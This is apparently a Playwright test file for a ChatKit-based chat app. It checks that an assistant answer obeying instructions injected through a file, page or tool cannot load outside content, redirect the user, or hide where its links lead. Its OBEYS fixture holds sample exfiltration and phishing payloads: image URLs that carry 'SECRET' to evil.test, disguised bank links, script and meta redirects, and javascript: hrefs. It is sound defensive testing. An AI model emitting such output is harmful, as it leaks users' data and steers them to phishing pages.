import { CDN, chatkit, expect, say } from "./fixtures.ts";
import { scripted as test } from "./models.ts";

/** What a model says that obeys an instruction from a file, a web page or a tool. */
const OBEYS = `As told, see ![status](https://evil.test/leak.png?q=SECRET) and
![](//evil.test/SECRET) <img src="https://evil.test/SECRET">

[your bank](https://evil.test/login) and [https://bank.test](https://evil.test/login)

<meta http-equiv="refresh" content="0;url=https://evil.test"><script>location="https://evil.test"</script>
<a href="javascript:location='https://evil.test'">here</a> [x](javascript:alert(1))`;

test.describe("in the instant view", () => {
  test.beforeEach(({ context }) => context.route(CDN, (route) => route.abort()));

  test("an answer that obeys a stranger loads nothing, goes nowhere, and its links say where they lead", async ({
    guest: page,
    model,
    context,
  }) => {
    const elsewhere: string[] = [];
    context.on("request", (request) => {
      if (request.url().includes("evil.test")) elsewhere.push(request.url());
    });
    model.script({ says: OBEYS });
    await say(page, "Read the page");
    const answer = page.locator('[data-type="assistant_message"]').last();
    await expect(answer.getByRole("link", { name: "your bank" })).toHaveAttribute("data-host", "evil.test");
    await expect(answer.getByRole("link", { name: "https://bank.test" })).toHaveAttribute(
      "data-host",
      "evil.test",
    );
    const shown = await answer
      .getByRole("link", { name: "your bank" })
      .evaluate((link) => getComputedStyle(link, "::after").content);
    expect(shown).toContain("evil.test");
    await expect(answer.locator("img, script, meta, iframe")).toHaveCount(0);
    for (const href of await answer
      .locator("a")
      .evaluateAll((links) => links.map((link) => link.getAttribute("href")))) {
      expect(href ?? "").not.toMatch(/^javascript:/);
    }
    await page.reload();
    await expect(answer.getByRole("link", { name: "your bank" })).toBeVisible();
    await expect(answer.locator("img, script, meta, iframe")).toHaveCount(0);
    expect(elsewhere).toEqual([]);
    await expect(page).toHaveURL(/\/chat\/thr_/);
  });

  test("a model can open only the app's own pages", async ({ guest: page, model }) => {
    const navigate = (to: string) => ({ calls: [{ name: "navigate", arguments: { to } }] });
    model.script(navigate("https://evil.test/"), { says: "It can't be opened." }, { says: "Sorry." });
    await say(page, "Take me there");
    await expect(page.locator('[data-type="assistant_message"]').last()).toBeVisible();
    await expect(page).toHaveURL(/\/chat\/thr_/);
  });
});

test("ChatKit is told to load pictures from the app itself only", async ({ guest: page, model }) => {
  model.script({ says: "Hello." });
  await say(page, "Hi");
  await expect(page).toHaveURL(/\/chat\/thr_/);
  const id = page.url().split("/").pop() ?? "";
  await expect(chatkit(page)).toBeAttached();
  const thread = await page.evaluate(async (threadId) => {
    const token = await (await fetch("/api/auth/token")).json();
    const response = await fetch("/api/chatkit", {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${token.token}` },
      body: JSON.stringify({ type: "threads.get_by_id", params: { thread_id: threadId } }),
    });
    return response.json();
  }, id);
  expect(thread).toMatchObject({ allowed_image_domains: [new URL(page.url()).hostname] });
});
